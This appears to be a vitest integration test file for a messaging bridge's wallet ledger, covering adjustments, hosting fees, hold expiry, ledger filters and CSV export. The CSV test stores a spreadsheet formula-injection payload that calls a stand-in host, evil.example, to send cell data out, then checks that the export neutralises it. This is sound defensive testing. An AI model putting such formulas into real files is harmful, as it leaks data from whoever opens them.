import { randomUUID } from 'node:crypto';
import { readCsv, restoreFormulaCell } from '@wabridge/shared';
import type { Kysely } from 'kysely';
import pino from 'pino';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { refusalsLeaving } from '../../test/support/problems.js';
import type { Schema } from '../src/storage/schema.js';
import { auditWallets } from '../src/wallet/audit.js';
import { HoldSweeper } from '../src/wallet/holds.js';
import { HostingFeeScheduler } from '../src/wallet/hosting.js';
import { ledgerCsvColumns } from '../src/wallet/ledger.js';
import { backends } from './support/backends.js';
import { type HttpAnswer, startTestBridge, type TestBridge } from './support/bridge.js';
import { expectedPrices } from './support/rates.js';
import { type SandboxBridge, startSandboxBridge } from './support/sandbox-bridge.js';
import { orderConfirmationTemplate, postMetaStatus, utilityConsent, worldNumber } from './support/wallet.js';

/** A parsed JSON answer; tests assert on it field by field. */
// biome-ignore lint/suspicious/noExplicitAny: see above.
type Json = any;

const silent = pino({ level: 'silent' });
const hours = (count: number) => count * 3_600_000;

describe.each(backends)('ledger: adjustments, hosting fees, stale holds, filters and CSV on $name', (backend) => {
  let world: SandboxBridge;
  /** A second bridge process on the same PostgreSQL database; on PGlite (one process's database) the same bridge. */
  let second: TestBridge | undefined;
  let accountId: string;
  let other: { accountId: string; deploymentId: string; token: string };
  /** The seeded utility template to a Japanese number, at this account's 1,000 micro-USD a point. */
  const templatePoints = expectedPrices.japan.utilityPointsAt1000MicroUsd;
  const db = () => world.bridge.bridge.database.db;
  const secondDb = (): Kysely<Schema> => (second ?? world.bridge).bridge.database.db;
  const admin = (method: string, path: string, json?: unknown) => world.bridge.request(method, path, { json });
  const as = (token: string, method: string, path: string, json?: unknown) =>
    world.bridge.request(method, path, { token, ...(json === undefined ? {} : { json }) });
  const wallet = async (token = world.token) => (await as(token, 'GET', '/v1/wallet')).body;
  const adjust = (body: Record<string, unknown>) =>
    admin('POST', '/v1/wallet/adjustments', { account_id: accountId, reference: `adj_${randomUUID()}`, ...body });

  /** Everything the wallet features write: a refused request must leave all of it as it was. */
  async function storage() {
    const count = async (table: 'wallet_entries' | 'hosting_fee_charges' | 'deployment_hosting_fees' | 'message_charges') =>
      Number(
        (
          await db()
            .selectFrom(table)
            .select((eb) => eb.fn.countAll<number>().as('count'))
            .executeTakeFirstOrThrow()
        ).count,
      );
    return {
      entries: await count('wallet_entries'),
      hostingCharges: await count('hosting_fee_charges'),
      hostingFees: await count('deployment_hosting_fees'),
      charges: await count('message_charges'),
      wallets: await db()
        .selectFrom('wallets')
        .select(['account_id', 'balance_points', 'reserved_points'])
        .orderBy('account_id')
        .execute(),
      fees: await db().selectFrom('deployment_hosting_fees').selectAll().orderBy('deployment_id').execute(),
    };
  }

  const expectRefused = refusalsLeaving(storage);

  /** Sets the available balance of the world's account to exactly `points`, with an adjustment. */
  async function setAvailable(points: number) {
    const { available } = await wallet();
    if (available !== points)
      expect((await adjust({ points: points - available, reason: 'test: set the balance' })).status).toBe(201);
  }

  beforeAll(async () => {
    world = await startSandboxBridge(backend);
    if (backend.name === 'postgres') {
      second = await startTestBridge(
        backend,
        { META_GRAPH_URL: world.sandboxServer.url },
        {
          database: world.bridge.database,
          adminToken: world.bridge.adminToken,
          encryptionKey: world.bridge.config.encryptionKey,
        },
      );
    }
    // The tests drive the schedulers themselves, with their own clocks.
    for (const bridge of [world.bridge, second]) {
      await bridge?.bridge.hostingFees.stop();
      await bridge?.bridge.holdSweeper.stop();
    }
    expect((await as(world.token, 'POST', '/v1/templates/sync')).status).toBe(202);
    await world.settle();
    accountId = (await as(world.token, 'GET', '/v1/accounts')).body.data[0].id;
    const settings = { currency: 'JPY', point_price_minor: 3, point_value_micro_usd: 1_000 };
    expect((await admin('PUT', '/v1/wallet/settings', { account_id: accountId, ...settings })).status).toBe(200);
    const otherAccount = (await admin('POST', '/v1/accounts', { name: 'Other tenant' })).body.id;
    const otherDeployment = (await world.bridge.createDeployment(otherAccount, {}, { sandbox: world.sandbox })).answer.body.id;
    const otherToken = (
      await admin('POST', `/v1/deployments/${otherDeployment}/installations`, { helpdesk: 'zoho', instance: '987654321' })
    ).body.token;
    expect(otherToken).toEqual(expect.any(String));
    expect((await admin('PUT', '/v1/wallet/settings', { account_id: otherAccount, ...settings })).status).toBe(200);
    other = { accountId: otherAccount, deploymentId: otherDeployment, token: otherToken };
  });
  afterEach(async () => {
    await world.bridge.bridge.processor.drain();
    expect(await auditWallets(db())).toEqual([]);
  });
  afterAll(async () => {
    await second?.close({ keepDatabase: true });
    await world?.close();
  });

  it('credits and debits with adjustments, counts a reference once and never overdraws', async () => {
    const reference = `credit-note-${randomUUID()}`;
    const credit = await adjust({ points: 500, reason: 'goodwill credit for ticket #4711', reference });
    expect(credit.status).toBe(201);
    expect(credit.body).toMatchObject({
      kind: 'adjustment',
      balance_delta_points: 500,
      reserved_delta_points: 0,
      adjustment_reference: reference,
      reason: 'goodwill credit for ticket #4711',
    });
    expect(await wallet()).toMatchObject({ balance: 500, available: 500 });
    // A replay answers the first entry and moves nothing.
    const replay = await adjust({ points: 500, reason: 'goodwill credit for ticket #4711', reference });
    expect(replay.status).toBe(201);
    expect(replay.body).toEqual(credit.body);
    expect(await wallet()).toMatchObject({ balance: 500 });
    // Concurrent replays too.
    const racing = `race-${randomUUID()}`;
    const raced = await Promise.all(Array.from({ length: 5 }, () => adjust({ points: 7, reason: 'raced', reference: racing })));
    expect(new Set(raced.map((answer) => answer.body.id)).size).toBe(1);
    expect(await wallet()).toMatchObject({ balance: 507 });

    const debit = await adjust({ points: -200, reason: 'correction: double purchase' });
    expect(debit.status).toBe(201);
    expect(debit.body.balance_delta_points).toBe(-200);
    expect(await wallet()).toMatchObject({ balance: 307, available: 307 });

    const overdraw = await expectRefused('adjustment_exceeds_available', 409, () => adjust({ points: -308, reason: 'too much' }));
    expect(overdraw).toMatchObject({ needed: 308, available: 307 });
    await expectRefused('adjustment_reference_reused', 409, () => adjust({ points: 1, reason: 'other amount', reference }));
    await expectRefused('adjustment_reference_reused', 409, () => adjust({ points: 500, reason: 'other reason', reference }));
    await expectRefused('adjustment_reference_reused', 409, () =>
      admin('POST', '/v1/wallet/adjustments', {
        account_id: other.accountId,
        points: 500,
        reason: 'goodwill credit for ticket #4711',
        reference,
      }),
    );
    await expectRefused('validation_failed', 422, () => adjust({ points: 0, reason: 'nothing' }));
    await expectRefused('validation_failed', 422, () => adjust({ points: 1.5, reason: 'fraction' }));
    await expectRefused('validation_failed', 422, () => adjust({ points: 1, reason: '   ' }));
    await expectRefused('validation_failed', 422, () => adjust({ points: 1, reason: 'x'.repeat(501) }));
    await expectRefused('validation_failed', 422, () => adjust({ points: 1 }));
    await expectRefused('validation_failed', 422, () => adjust({ points: 1, reason: 'r', reference: '' }));
    await expectRefused('validation_failed', 422, () => adjust({ points: 1, reason: 'r', surprise: true }));
    await expectRefused('unknown_account', 422, () =>
      adjust({ points: 1, reason: 'r', account_id: 'acc_zzzzzzzzzzzzzzzzzzzzzzzz' }),
    );
    await expectRefused('admin_required', 403, () =>
      as(world.token, 'POST', '/v1/wallet/adjustments', { account_id: accountId, points: 1, reason: 'r', reference: 'mine' }),
    );
    await setAvailable(0);
  });

  it('charges each number’s monthly hosting fee once per month across racing schedulers, partly when short', async () => {
    const deploymentId = world.deployment.id;
    const feePath = `/v1/deployments/${deploymentId}/hosting-fee`;
    await expectRefused('validation_failed', 422, () => admin('PUT', feePath, { monthly_points: 0 }));
    await expectRefused('validation_failed', 422, () => admin('PUT', feePath, { monthly_points: 1.5 }));
    await expectRefused('validation_failed', 422, () => admin('PUT', feePath, {}));
    await expectRefused('not_found', 404, () =>
      admin('PUT', '/v1/deployments/dep_zzzzzzzzzzzzzzzzzzzzzzzz/hosting-fee', { monthly_points: 1 }),
    );
    await expectRefused('not_found', 404, () => admin('PUT', '/v1/deployments/nope/hosting-fee', { monthly_points: 1 }));
    await expectRefused('admin_required', 403, () => as(world.token, 'PUT', feePath, { monthly_points: 1 }));
    const unpriced = (await admin('POST', '/v1/accounts', { name: 'Unpriced' })).body.id;
    const unpricedDeployment = (await world.bridge.createDeployment(unpriced, {}, { sandbox: world.sandbox })).answer.body.id;
    await expectRefused('pricing_not_configured', 409, () =>
      admin('PUT', `/v1/deployments/${unpricedDeployment}/hosting-fee`, { monthly_points: 100 }),
    );

    const set = await admin('PUT', feePath, { monthly_points: 300 });
    expect(set.status).toBe(200);
    expect(set.body).toMatchObject({ deployment_id: deploymentId, account_id: accountId, monthly_points: 300 });
    expect((await admin('PUT', `/v1/deployments/${other.deploymentId}/hosting-fee`, { monthly_points: 50 })).status).toBe(200);
    expect(
      (
        await admin('POST', '/v1/wallet/adjustments', {
          account_id: other.accountId,
          points: 80,
          reason: 'seed',
          reference: `seed-${randomUUID()}`,
        })
      ).status,
    ).toBe(201);
    await setAvailable(500);

    /** Two bridge processes' schedulers at the same instant, each stepping until nothing is due. */
    async function race(at: string) {
      const schedulers = [db(), secondDb(), db(), secondDb()].map(
        (database) => new HostingFeeScheduler(database, silent, () => new Date(at)),
      );
      const outcomes = await Promise.all(
        schedulers.map(async (scheduler) => {
          const mine: string[] = [];
          for (let outcome = await scheduler.chargeNextDue(); outcome !== 'idle'; outcome = await scheduler.chargeNextDue())
            mine.push(outcome);
          return mine;
        }),
      );
      return outcomes.flat().filter((outcome) => outcome === 'charged').length;
    }
    const hostingEntries = async (period: string) =>
      db()
        .selectFrom('wallet_entries')
        .selectAll()
        .where('kind', '=', 'hosting_fee')
        .where('hosting_period', '=', period)
        .orderBy('account_id')
        .execute();

    // January: both numbers charged in full, once, whoever wins.
    expect(await race('2031-01-01T00:00:30Z')).toBe(2);
    expect(await race('2031-01-31T23:59:59Z')).toBe(0);
    const january = await hostingEntries('2031-01');
    expect(january).toHaveLength(2);
    const mine = january.find((entry) => entry.account_id === accountId)!;
    expect(mine).toMatchObject({ deployment_id: deploymentId, hosting_period: '2031-01' });
    expect(Number(mine.balance_delta_points)).toBe(-300);
    expect(mine.reason).toContain('2031-01');
    expect(await wallet()).toMatchObject({ balance: 200, available: 200 });
    // The other tenant paid for its own number only.
    expect(await wallet(other.token)).toMatchObject({ balance: 30 });

    // February: 300 due, 200 available: 200 collected, 100 uncollected, the available balance stops at zero.
    expect(await race('2031-02-01T00:05:00Z')).toBe(2);
    const february = (await hostingEntries('2031-02')).find((entry) => entry.account_id === accountId)!;
    expect(Number(february.balance_delta_points)).toBe(-200);
    expect(february.reason).toMatch(/200 collected, 100 uncollected/);
    const hostingCodes = await as(world.token, 'GET', '/v1/wallet/ledger?kind=hosting_fee');
    expect(hostingCodes.body.data.map((entry: Json) => [entry.hosting_period, entry.reason_code])).toEqual([
      ['2031-01', 'hosting_fee'],
      ['2031-02', 'hosting_fee_short'],
    ]);
    const charge = await db()
      .selectFrom('hosting_fee_charges')
      .selectAll()
      .where('deployment_id', '=', deploymentId)
      .where('period', '=', '2031-02')
      .executeTakeFirstOrThrow();
    expect(charge).toMatchObject({ period: '2031-02', account_id: accountId });
    expect([charge.fee_points, charge.collected_points, charge.uncollected_points].map(Number)).toEqual([300, 200, 100]);
    expect(await wallet()).toMatchObject({ balance: 0, available: 0 });

    // March with nothing available: recorded, nothing collected.
    expect(await race('2031-03-15T12:00:00Z')).toBe(2);
    const march = (await hostingEntries('2031-03')).find((entry) => entry.account_id === accountId)!;
    expect(Number(march.balance_delta_points)).toBe(0);
    expect(await wallet()).toMatchObject({ balance: 0, available: 0 });

    // No fee, no charge.
    expect((await admin('PUT', feePath, { monthly_points: null })).body).toMatchObject({
      monthly_points: null,
      updated_at: null,
    });
    expect((await admin('PUT', `/v1/deployments/${other.deploymentId}/hosting-fee`, { monthly_points: null })).status).toBe(200);
    expect(await race('2031-04-01T00:00:00Z')).toBe(0);
    await expect(
      db().updateTable('hosting_fee_charges').set({ collected_points: 0 }).where('period', '=', '2031-01').execute(),
    ).rejects.toThrow(/append-only/);
  });

  describe('holds Meta never prices', () => {
    const confirmation = (to: string) => ({
      to,
      template: orderConfirmationTemplate,
      ticket: { helpdesk: 'zendesk', id: '4711' },
    });
    async function optIn(phone: string) {
      const answer = await as(world.token, 'POST', `/v1/contacts/${encodeURIComponent(phone)}/consents`, utilityConsent());
      expect(answer.status).toBe(201);
    }
    const postStatus = (message: Json, status: string, pricing: Record<string, unknown> | null) =>
      postMetaStatus(world, worldNumber(world), message, status, pricing);

    const billable = { billable: true, pricing_model: 'PMP', type: 'regular', category: 'utility' };
    const charge = async (message: Json) => (await as(world.token, 'GET', `/v1/messages/${message.id}`)).body.charge;
    const entriesOf = async (message: Json) =>
      (
        await db()
          .selectFrom('wallet_entries')
          .select(['kind', 'balance_delta_points', 'reserved_delta_points'])
          .where('message_id', '=', message.id)
          .orderBy('id')
          .execute()
      ).map((entry) => [entry.kind, Number(entry.balance_delta_points), Number(entry.reserved_delta_points)]);

    it('returns a hold after the timeout; a late billable status is still captured once, a late free one moves nothing', async () => {
      // Hold the sandbox's own statuses back: only the webhooks below price these messages.
      await world.control('PUT', `/sandbox/numbers/${world.deployment.phone_number_id}/knobs`, {
        statusDelaysMs: { sent: 600_000, delivered: 600_000, read: 600_000 },
      });
      try {
        const phones = ['+819055551001', '+819055551002', '+819055551003', '+819055551004'];
        await setAvailable(templatePoints * 4 + 10);
        const messages: Json[] = [];
        for (const phone of phones) {
          await optIn(phone);
          const sent = await world.send(confirmation(phone));
          expect(sent.status).toBe(202);
          messages.push(sent.body);
        }
        expect(await wallet()).toMatchObject({ reserved: templatePoints * 4, available: 10 });

        const timeoutHours = world.bridge.config.walletHoldTimeoutHours;
        expect(timeoutHours).toBe(192);
        const early = new HoldSweeper(db(), silent, { timeoutHours, now: () => new Date(Date.now() + hours(timeoutHours - 1)) });
        expect(await early.expireOne()).toBe(false);
        // Two processes sweep at once, past the timeout: each hold expires once.
        const late = (database: Kysely<Schema>) =>
          new HoldSweeper(database, silent, { timeoutHours, now: () => new Date(Date.now() + hours(timeoutHours + 1)) });
        const sweepers = [late(db()), late(secondDb()), late(db())];
        const expired = await Promise.all(
          sweepers.map(async (sweeper) => {
            let count = 0;
            while (await sweeper.expireOne()) count += 1;
            return count;
          }),
        );
        expect(expired.reduce((sum, count) => sum + count, 0)).toBe(4);
        expect(await wallet()).toMatchObject({ reserved: 0, available: templatePoints * 4 + 10 });
        for (const message of messages) {
          expect(await charge(message)).toMatchObject({ state: 'expired', points: templatePoints, captured_points: null });
          expect(await entriesOf(message)).toEqual([
            ['hold', 0, templatePoints],
            ['expiry', 0, -templatePoints],
          ]);
        }
        const [billed, free, failed, short] = messages;

        // Billable, late: captured from the balance, once, however often Meta repeats it.
        await postStatus(billed, 'sent', billable);
        await postStatus(billed, 'delivered', billable);
        expect(await charge(billed)).toMatchObject({ state: 'captured', captured_points: templatePoints });
        expect(await entriesOf(billed)).toEqual([
          ['hold', 0, templatePoints],
          ['expiry', 0, -templatePoints],
          ['capture', -templatePoints, 0],
        ]);
        expect(await wallet()).toMatchObject({ balance: templatePoints * 3 + 10, reserved: 0 });
        // Read back through the API, each entry says why as a code the console translates.
        const billedEntries = await as(world.token, 'GET', `/v1/wallet/ledger?message_id=${billed.id}`);
        expect(billedEntries.body.data.map((entry: Json) => entry.reason_code)).toEqual([
          'hold',
          'expiry',
          'capture_after_expiry',
        ]);

        // Free or failed, late: nothing moves (the points are back already); Meta's verdict is recorded.
        await postStatus(free, 'sent', {
          billable: false,
          pricing_model: 'PMP',
          type: 'free_customer_service',
          category: 'utility',
        });
        await postStatus(failed, 'failed', null);
        expect(await charge(free)).toMatchObject({ state: 'released', captured_points: null });
        expect(await charge(failed)).toMatchObject({ state: 'released' });
        expect((await entriesOf(free)).map(([kind]) => kind)).toEqual(['hold', 'expiry']);
        expect((await entriesOf(failed)).map(([kind]) => kind)).toEqual(['hold', 'expiry']);
        expect(await wallet()).toMatchObject({ balance: templatePoints * 3 + 10 });
        // …and a billable status after them changes nothing either: they are settled.
        await postStatus(free, 'delivered', billable);
        expect((await entriesOf(free)).map(([kind]) => kind)).toEqual(['hold', 'expiry']);

        // Billable, late, with the balance spent meanwhile: what is available is collected, the rest uncollected.
        await setAvailable(1);
        await postStatus(short, 'sent', billable);
        expect(await charge(short)).toMatchObject({ state: 'captured', captured_points: 1 });
        const shortCharge = await db()
          .selectFrom('message_charges')
          .selectAll()
          .where('message_id', '=', short.id)
          .executeTakeFirstOrThrow();
        expect(Number(shortCharge.uncollected_points)).toBe(templatePoints - 1);
        expect(shortCharge.hold_expired_at).not.toBeNull();
        expect(await wallet()).toMatchObject({ balance: 0, reserved: 0, available: 0 });
      } finally {
        await world.control('DELETE', `/sandbox/numbers/${world.deployment.phone_number_id}/knobs`);
      }
    });
  });

  describe('reading the ledger', () => {
    /** As the installation by default; null: as the administrator. */
    const ledger = async (query: string, token: string | null = world.token) =>
      token === null ? admin('GET', `/v1/wallet/ledger?${query}`) : as(token, 'GET', `/v1/wallet/ledger?${query}`);
    /** The CSV export as bytes decoded without dropping the BOM (fetch's text() would drop it). */
    async function csv(query: string, token: string | null = world.token) {
      const response = await fetch(`${world.bridge.url}/v1/wallet/ledger.csv?${query}`, {
        headers: { authorization: `Bearer ${token ?? world.bridge.adminToken}` },
      });
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
      expect(response.status).toBe(200);
      expect(text.startsWith('\uFEFF')).toBe(true);
      const { records, errors } = readCsv(text.slice(1));
      expect(errors).toEqual([]);
      expect(records[0]!.cells).toEqual([...ledgerCsvColumns]);
      return { headers: response.headers, text: text.slice(1), records: records.slice(1).map((record) => record.cells) };
    }
    /** Every entry a query lists, page by page. */
    async function everyPage(query: string, limit: number, token?: string): Promise<Json[]> {
      const entries: Json[] = [];
      let cursor: string | null = null;
      do {
        const answer: HttpAnswer = await ledger(`${query}&limit=${limit}${cursor === null ? '' : `&cursor=${cursor}`}`, token);
        expect(answer.status).toBe(200);
        expect(answer.body.data.length).toBeLessThanOrEqual(limit);
        entries.push(...answer.body.data);
        cursor = answer.body.next_cursor;
      } while (cursor !== null);
      return entries;
    }

    it('filters by kind, time, deployment, ticket and message; the cursor walks the filtered entries', async () => {
      const all = await everyPage('', 200);
      expect(all.length).toBeGreaterThan(10);
      const ids = all.map((entry) => Number(entry.id));
      expect(ids).toEqual([...ids].sort((a, b) => a - b));

      const settlements = await everyPage('kind=capture,release,expiry', 2);
      expect(settlements.length).toBeGreaterThan(2);
      expect(settlements.every((entry) => ['capture', 'release', 'expiry'].includes(entry.kind))).toBe(true);
      expect(settlements).toEqual(all.filter((entry) => ['capture', 'release', 'expiry'].includes(entry.kind)));
      expect(await everyPage('kind=capture&kind=release&kind=expiry', 3)).toEqual(settlements);
      const hosting = await everyPage('kind=hosting_fee', 1);
      expect(hosting.map((entry) => entry.hosting_period)).toEqual(['2031-01', '2031-02', '2031-03']);

      const message = all.find((entry) => entry.kind === 'capture')!;
      const ofMessage = await everyPage(`message_id=${message.message_id}`, 1);
      expect(ofMessage.map((entry) => entry.kind)).toEqual(['hold', 'expiry', 'capture']);
      expect(ofMessage.every((entry) => entry.message_id === message.message_id)).toBe(true);
      const ofTicket = await everyPage('helpdesk=zendesk&ticket_id=4711', 5);
      expect(ofTicket).toEqual(all.filter((entry) => entry.ticket?.id === '4711'));
      // Four messages' holds and expiries, and two captures (free and failed settled without an entry).
      expect(ofTicket).toHaveLength(10);
      expect(await everyPage('helpdesk=zoho', 5)).toEqual([]);
      const ofDeployment = await everyPage(`deployment_id=${world.deployment.id}&kind=hosting_fee,hold`, 4);
      expect(ofDeployment).toEqual(
        all.filter((entry) => entry.deployment_id === world.deployment.id && ['hosting_fee', 'hold'].includes(entry.kind)),
      );

      // Half-open: from includes its instant, to excludes it.
      const pivot = all[Math.floor(all.length / 2)]!;
      const from = await everyPage(`from=${pivot.created_at}`, 50);
      const to = await everyPage(`to=${pivot.created_at}`, 50);
      expect(from).toEqual(all.filter((entry) => entry.created_at >= pivot.created_at));
      expect(to).toEqual(all.filter((entry) => entry.created_at < pivot.created_at));
      expect(from.length + to.length).toBe(all.length);

      // The administrator names the account; an installation reads only its own.
      expect((await ledger(`account_id=${accountId}&limit=200`, null)).body.data).toEqual(all.slice(0, 200));
      expect((await ledger(`account_id=${accountId}&limit=200`)).body.data).toEqual(all.slice(0, 200));
      const theirs = await everyPage('', 50, other.token);
      expect(new Set(theirs.map((entry) => entry.kind))).toEqual(new Set(['adjustment', 'hosting_fee']));
      expect(await everyPage(`message_id=${message.message_id}`, 5, other.token)).toEqual([]);
    });

    it('refuses unknown filters, bad values and other tenants’ accounts with problems', async () => {
      const refusals: [string, number, string, string | undefined][] = [
        ['kind=nope', 422, 'validation_failed', world.token],
        ['kind=', 422, 'validation_failed', world.token],
        ['surprise=1', 422, 'validation_failed', world.token],
        ['from=yesterday', 422, 'validation_failed', world.token],
        ['from=2031-02-01T00:00:00Z&to=2031-01-01T00:00:00Z', 422, 'validation_failed', world.token],
        ['from=2031-01-01T00:00:00Z&to=2031-01-01T00:00:00Z', 422, 'validation_failed', world.token],
        ['helpdesk=freshdesk', 422, 'validation_failed', world.token],
        ['deployment_id=nope', 422, 'validation_failed', world.token],
        ['message_id=nope', 422, 'validation_failed', world.token],
        ['cursor=!!!', 422, 'validation_failed', world.token],
        ['limit=0', 422, 'validation_failed', world.token],
        [`account_id=${other.accountId}`, 422, 'unknown_account', world.token],
        ['', 422, 'validation_failed', undefined],
        ['account_id=acc_zzzzzzzzzzzzzzzzzzzzzzzz', 422, 'unknown_account', undefined],
      ];
      for (const [query, status, code, token] of refusals) {
        for (const path of ['/v1/wallet/ledger', '/v1/wallet/ledger.csv']) {
          const answer = () => (token === undefined ? admin('GET', `${path}?${query}`) : as(token, 'GET', `${path}?${query}`));
          if (path.endsWith('.csv') && (query.startsWith('cursor') || query.startsWith('limit'))) {
            // The export takes no paging parameters: they are unknown there.
            await expectRefused('validation_failed', 422, answer);
            continue;
          }
          const body = await expectRefused(code, status, answer);
          if (query === 'surprise=1') expect(body.errors).toContainEqual(expect.objectContaining({ code: 'unknown_field' }));
        }
      }
      await expectRefused('unauthorized', 401, () => world.bridge.request('GET', '/v1/wallet/ledger.csv', { token: null }));
    });

    it('exports the filtered ledger as CSV: header, RFC 4180 quoting, formulas neutralised, every entry once across pages', async () => {
      const formula = `=HYPERLINK("http://evil.example/?x="&A1, "click")`;
      const multiline = 'refund, "partial"\nsecond line';
      expect((await adjust({ points: 5, reason: formula })).status).toBe(201);
      expect((await adjust({ points: 5, reason: multiline })).status).toBe(201);
      expect((await adjust({ points: 5, reason: '  -2+3 looks like a formula after spaces' })).status).toBe(201);
      // More entries than one export page (500) holds, twice over, so the export crosses page boundaries.
      await db()
        .insertInto('wallet_entries')
        .values(
          Array.from({ length: 1_050 }, (_, index) => ({
            account_id: accountId,
            kind: 'adjustment' as const,
            balance_delta_points: 1,
            reserved_delta_points: 0,
            reason: `bulk ${index}`,
          })),
        )
        .execute();

      const all = await everyPage('', 200);
      const { headers, text, records } = await csv('');
      expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(headers.get('content-disposition')).toBe(`attachment; filename="ledger-${accountId}.csv"`);
      const rows = records.map((cells) => Object.fromEntries(ledgerCsvColumns.map((column, index) => [column, cells[index]!])));
      expect(rows.map((row) => row.id)).toEqual(all.map((entry) => entry.id));
      expect(new Set(rows.map((row) => row.id)).size).toBe(rows.length);
      expect(rows.length).toBeGreaterThan(1_050);
      const byReason = (reason: string) => rows.find((row) => restoreFormulaCell(row.reason!) === reason)!;
      // The formula is neutralised with an apostrophe, and reads back as written.
      expect(byReason(formula).reason).toBe(`'${formula}`);
      expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1, ""click"")"`);
      expect(byReason(multiline).reason).toBe(multiline);
      expect(text).toContain('"refund, ""partial""\nsecond line"');
      // Trimmed by the contract, then neutralised: a leading minus is a formula too.
      expect(byReason('-2+3 looks like a formula after spaces').reason).toBe("'-2+3 looks like a formula after spaces");
      const capture = rows.find((row) => row.kind === 'capture')!;
      const captured = all.find((entry) => entry.id === capture.id)!;
      expect(capture).toMatchObject({
        created_at: captured.created_at,
        balance_delta_points: String(captured.balance_delta_points),
        message_id: captured.message_id,
        ticket_helpdesk: 'zendesk',
        ticket_id: '4711',
        category: captured.rate.category,
        payment_reference: '',
      });

      const filtered = await csv('kind=hosting_fee,expiry');
      expect(filtered.records.map((cells) => cells[0])).toEqual(
        all.filter((entry) => ['hosting_fee', 'expiry'].includes(entry.kind)).map((entry) => entry.id),
      );
      expect((await csv(`account_id=${accountId}&kind=hosting_fee`, null)).text).toBe((await csv('kind=hosting_fee')).text);
      const theirs = await csv('', other.token);
      expect(new Set(theirs.records.map((cells) => cells[2]))).toEqual(new Set(['adjustment', 'hosting_fee']));
      await setAvailable(0);
    });
  });
});
